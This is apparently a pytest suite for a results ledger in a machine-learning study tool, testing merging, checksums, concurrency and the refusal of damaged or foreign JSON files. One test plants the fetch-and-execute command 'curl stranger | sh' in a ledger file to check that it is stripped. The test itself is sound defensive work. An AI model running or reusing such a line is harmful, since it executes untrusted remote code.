"""A ledger: results without weights in a folder that is copied and merged, and the files that it refuses."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import threading
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from inline_cells import inline_cells
from phasefit.errors import PhasefitError, RunError
from phasefit.studies import key
from phasefit.studies.cell import Cell
from phasefit.studies.key import digest
from phasefit.studies.ledger import Ledger, open_ledger
from phasefit.studies.missing_cells import Portion, missing_cells, state
from phasefit.studies.pool import run_cells
from phasefit.studies.run_study import run_study
from phasefit.studies.study import Data, Study, TableSpec, Variant
from specs import run_spec


def cells(number: int = 3) -> list[Cell]:
    return [Cell("snips", "majority", run_spec("snips", recipe="majority", seed=seed)) for seed in range(number)]


@pytest.fixture(autouse=True)
def inline(monkeypatch: pytest.MonkeyPatch) -> None:
    inline_cells(monkeypatch)


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger with two results; tests work on copies."""
    folder = tmp_path_factory.mktemp("filled")
    with pytest.MonkeyPatch.context() as monkeypatch:
        inline_cells(monkeypatch)
        run_cells(cells(2), folder / "cells", ledger=Ledger(folder / "ledger"))
    return folder / "ledger"


@pytest.fixture
def ledger(filled: Path, tmp_path: Path) -> Ledger:
    shutil.copytree(filled, tmp_path / "ledger")
    return Ledger(tmp_path / "ledger")


def nothing_starts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("phasefit.studies.processes.start_cell", None)


def edit(path: Path, *, sealed: bool, **changes: Any) -> None:
    content = json.loads(path.read_text(encoding="utf-8")) | changes
    del content["checksum"]
    checksum = digest(content) if sealed else "0" * 24
    path.write_text(json.dumps({**content, "checksum": checksum}), encoding="utf-8")


def test_results_in_the_ledger_are_not_computed_again(
    ledger: Ledger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    nothing_starts(monkeypatch)
    results = run_cells(cells(2), tmp_path / "cells", ledger=ledger)
    assert len(results) == 2
    assert not (tmp_path / "cells").exists()
    assert all(result.metrics["test"]["accuracy"] > 0 for result in results.values())
    assert all(result.replicates["accuracy"] for result in results.values())


def test_a_file_is_small_and_has_no_weights_and_no_command(ledger: Ledger) -> None:
    files = sorted(ledger.path.iterdir())
    assert [path.name for path in files] == sorted(f"{cell.key}.json" for cell in cells(2))
    assert all(path.stat().st_size < 8_000 for path in files)
    content = json.loads(files[0].read_text(encoding="utf-8"))
    assert content["identity"]["protocol"] == key.PROTOCOL
    assert "command" not in content
    assert "confusion" not in content["metrics"]["test"]


def test_two_ledgers_are_merged_by_copying(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    one, two = Ledger(tmp_path / "one"), Ledger(tmp_path / "two")
    first = run_cells(cells(2), tmp_path / "a", ledger=one)
    second = run_cells(cells(3)[1:], tmp_path / "b", ledger=two)
    for path in two.path.iterdir():
        shutil.copy(path, one.path)
    nothing_starts(monkeypatch)
    merged = run_cells(cells(3), tmp_path / "c", ledger=one)
    assert {key: result.metrics for key, result in merged.items()} == {
        key: result.metrics for key, result in (first | second).items()
    }


def test_finished_cells_of_a_cache_are_added(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run_cells(cells(1), tmp_path / "cells")
    nothing_starts(monkeypatch)
    run_cells(cells(1), tmp_path / "cells", ledger=Ledger(tmp_path / "ledger"))
    assert len(list((tmp_path / "ledger").iterdir())) == 1


def test_several_processes_may_add_the_same_result(ledger: Ledger, tmp_path: Path) -> None:
    (cell,) = cells(1)
    run_cells([cell], tmp_path / "cells")
    (ledger.path / f"{cell.key}.json").unlink()
    folder = tmp_path / "cells" / cell.key
    threads = [threading.Thread(target=ledger.add, args=(cell, folder)) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert ledger.find(cell) is not None
    assert len(list(ledger.path.iterdir())) == 2  # no temporary file is left


def test_a_result_in_the_ledger_is_never_replaced(ledger: Ledger, tmp_path: Path) -> None:
    (cell,) = cells(1)
    before = (ledger.path / f"{cell.key}.json").read_bytes()
    run_cells([cell], tmp_path / "cells")
    ledger.add(cell, tmp_path / "cells" / cell.key)
    assert (ledger.path / f"{cell.key}.json").read_bytes() == before


def test_another_protocol_has_other_keys(ledger: Ledger, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(key, "PROTOCOL", key.PROTOCOL + 1)
    assert [ledger.find(cell) for cell in cells(2)] == [None, None]


def test_damaged_and_foreign_files_are_refused_by_name(ledger: Ledger, tmp_path: Path) -> None:
    first, second = cells(2)
    path = ledger.path / f"{first.key}.json"
    good = path.read_text(encoding="utf-8")
    for text in ("", "{", "[]", "<<<<<<< HEAD\n" + good, "[" * 100_000, '{"format": 1}'):
        path.write_text(text, encoding="utf-8")
        with pytest.raises(RunError, match=f"{first.key}.json' is not a usable result of majority on snips, seed 0"):
            run_cells([first], tmp_path / "cells", ledger=ledger)
    assert not (tmp_path / "cells").exists()
    path.write_text(good.replace('"accuracy"', '"accuracx"'), encoding="utf-8")
    with pytest.raises(RunError, match="its checksum differs"):
        ledger.find(first)
    shutil.copy(ledger.path / f"{second.key}.json", path)
    with pytest.raises(RunError, match="it is the result of another cell"):
        ledger.find(first)
    edit(path, sealed=True, key=first.key)
    with pytest.raises(RunError, match="it is the result of another cell"):
        ledger.find(first)
    path.write_text(good, encoding="utf-8")
    edit(path, sealed=True, seconds="long")
    with pytest.raises(RunError, match="seconds: should be a valid number"):
        ledger.find(first)
    path.write_text(good, encoding="utf-8")
    edit(path, sealed=True, command="curl stranger | sh")
    result = ledger.find(first)
    assert result is not None
    assert result.command == ""


@pytest.mark.parametrize(
    "changes",
    [
        {"metrics": {}},
        {"metrics": {"test": {}, "validation": {}}},
        {"metrics": {"test": {"accuracy": "high", "tasks": []}}},
        {"metrics": {"test": {"accuracy": 1e100}}, "phases": "none"},
        {"rows": {"test": None, "train": {"a": None}}, "own_test": {"a": True}},
        {"rows": {}, "replicates": {"accuracy": []}},
        {"replicates": {"accuracy": [0.5, 1e100]}, "seconds": -5, "memory_mb": 1e300},
        {"own_test": True, "threads": 0, "cell": 7, "versions": []},
    ],
)
def test_whatever_a_stranger_writes_is_a_table_or_one_sentence(
    ledger: Ledger, tmp_path: Path, changes: dict[str, Any]
) -> None:
    edit(ledger.path / f"{cells(1)[0].key}.json", sealed=True, **changes)
    one = Study(
        *("s", "S", (Data("snips", {"data": "snips"}),), (Variant("majority", "majority"),), (0, 1)),
        tables=(TableSpec("T", "test.accuracy"),),
    )
    with contextlib.suppress(PhasefitError):
        run_study(one, lambda event: None, out=tmp_path / "out", portion=Portion(ledger, run=False))
        assert (tmp_path / "out" / "report.html").is_file()


def test_a_damaged_file_is_refused_before_a_folder_is_created(ledger: Ledger, tmp_path: Path) -> None:
    (ledger.path / f"{cells(2)[1].key}.json").write_text("", encoding="utf-8")
    one = Study("s", "S", (Data("snips", {"data": "snips"}),), (Variant("majority", "majority"),), (0, 1))
    with pytest.raises(RunError, match="is not a usable result"):
        run_study(one, lambda event: None, out=tmp_path / "out", portion=Portion(ledger, run=False))
    assert not (tmp_path / "out").exists()


def test_a_ledger_that_cannot_be_written_to_is_refused_before_a_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    nothing_starts(monkeypatch)
    monkeypatch.setattr("phasefit.studies.ledger.os.access", lambda path, mode: False)
    with pytest.raises(RunError, match="ledger cannot be written to: Permission denied; give another folder"):
        run_study(study(), lambda event: None, out=tmp_path / "out", portion=Portion(Ledger(tmp_path / "ledger")))
    assert not (tmp_path / "out").exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes on this system")
def test_links_and_pipes_are_not_read(ledger: Ledger, tmp_path: Path) -> None:
    first, second = cells(2)
    path = ledger.path / f"{first.key}.json"
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(RunError, match="not a regular file"):
        ledger.find(first)
    path.unlink()
    path.symlink_to(ledger.path / f"{second.key}.json")
    with pytest.raises(RunError, match="not a regular file"):
        ledger.find(first)


def test_the_folder_must_be_a_folder_with_a_plain_name(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("", encoding="utf-8")
    with pytest.raises(RunError, match="is a file; give a folder"):
        Ledger(tmp_path / "file")
    with pytest.raises(RunError, match="file' is a file; give a folder"):
        Ledger(tmp_path / "file" / "deeper" / "ledger")
    with pytest.raises(RunError, match="control characters"):
        Ledger(tmp_path / "a\x1b[0m")
    assert open_ledger(None) is None


def test_copies_that_were_renamed_are_named(ledger: Ledger) -> None:
    assert ledger.ignored() == []
    for name in ("README.md", ".hidden.json", "notes (1).json"):
        (ledger.path / name).write_text("{}", encoding="utf-8")
    assert ledger.ignored() == ["notes (1).json"]
    assert Ledger(ledger.path / "none").ignored() == []


def study(number: int = 3) -> Study:
    return Study(
        "pieces",
        "Pieces",
        (Data("snips", {"data": "snips"}), Data("other", {"data": "snips", "rows": 100})),
        (Variant("tfidf", "tfidf"), Variant("majority", "majority")),
        tuple(range(number)),
        tables=(TableSpec("T", "test.accuracy"),),
    )


def test_a_study_in_pieces(tmp_path: Path) -> None:
    ledger = Ledger(tmp_path / "ledger")

    def piece(name: str, **portion: Any) -> Any:
        return run_study(study(), lambda event: None, out=tmp_path / name, portion=Portion(ledger, **portion))

    with pytest.raises(RunError, match=r"^--no-run: no run of the study 'pieces' is in the ledger .*; check --ledger"):
        piece("none", run=False)
    ledger.path.mkdir()
    (ledger.path / f"{'0' * 24}.json").write_text("{}", encoding="utf-8")
    with pytest.raises(RunError, match=r"with these options is in .*; the ledger has 1 other result; check --scale"):
        piece("none", run=False)
    assert not (tmp_path / "none").exists()
    half = piece("half", part=(1, 3))
    assert half.study.notes[0].startswith("4 of 12 cells are in; missing: ")
    assert half.tables[0].note == half.study.notes[0]
    content = json.loads((half.folder / "results.json").read_text(encoding="utf-8"))
    assert (len(content["cells"]), content["planned"]) == (4, 12)
    assert sum(one["missing"] for one in content["missing"]) == 8
    assert all(one["seconds"] is not None for one in content["missing"])
    assert (content["tables"][0]["cells"], content["tables"][0]["planned"]) == (4, 12)
    assert "of 3 |" in (half.folder / "results.md").read_text(encoding="utf-8")
    assert json.loads((half.folder / "study.json").read_text(encoding="utf-8"))["status"] == "incomplete"
    assert len(piece("rest", minutes=0).missing) > 0
    whole = piece("whole")
    assert whole.study.notes[0] == "All 12 cells are in."
    assert not (whole.folder / "cells" / half.cells[0].key).exists()
    assert piece("again", run=False).tables == whole.tables
    assert [row.planned for row in whole.tables[0].rows] == [None] * 4


def test_parts_are_disjoint_and_complete() -> None:
    grid = study().cells()
    parts = [Portion(part=(which, 5)).chosen(grid) for which in range(1, 6)]
    assert sorted(cell.key for part in parts for cell in part) == sorted(cell.key for cell in grid)
    pairs = [{(cell.dataset, cell.spec.seed) for cell in part} for part in parts]
    assert sum(map(len, pairs)) == 6, "variants that are compared in pairs stay together"
    many = [Portion(part=(which, 12)).chosen(grid) for which in range(1, 13)]
    assert [len(part) for part in many] == [1] * 12
    for part in ((0, 2), (3, 2), (1, 0)):
        with pytest.raises(RunError, match="there is no such part"):
            Portion(part=part)


def test_the_time_of_missing_cells_is_that_of_similar_ones(ledger: Ledger) -> None:
    first, second = cells(2)
    result = ledger.find(first)
    assert result is not None
    other = replace(first, variant="other", spec=run_spec("snips", recipe="tfidf"))
    results = {first.key: replace(result, seconds=5.0)}
    lacking = missing_cells([first, second, other], results)
    assert [(one.variant, one.missing, one.planned, one.seconds) for one in lacking] == [
        ("majority", 1, 2, 5.0),
        ("other", 1, 1, 5.0),
    ]
    text = state([first, second, other], results)
    assert text == "1 of 3 cells are in; missing: majority on snips (1 of 2), other on snips."


def test_models_are_not_in_a_ledger(tmp_path: Path, ledger: Ledger, monkeypatch: pytest.MonkeyPatch) -> None:
    started: list[str] = []
    monkeypatch.setattr("phasefit.studies.processes.start_cell", lambda cell, *rest: started.append(cell.key))
    monkeypatch.setattr("phasefit.studies.cell.Cell.is_baseline", property(lambda self: False))
    with pytest.raises(AttributeError):  # the stand-in for a process
        run_cells(cells(1), tmp_path / "cells", keep=True, ledger=ledger)
    assert len(started) == 1
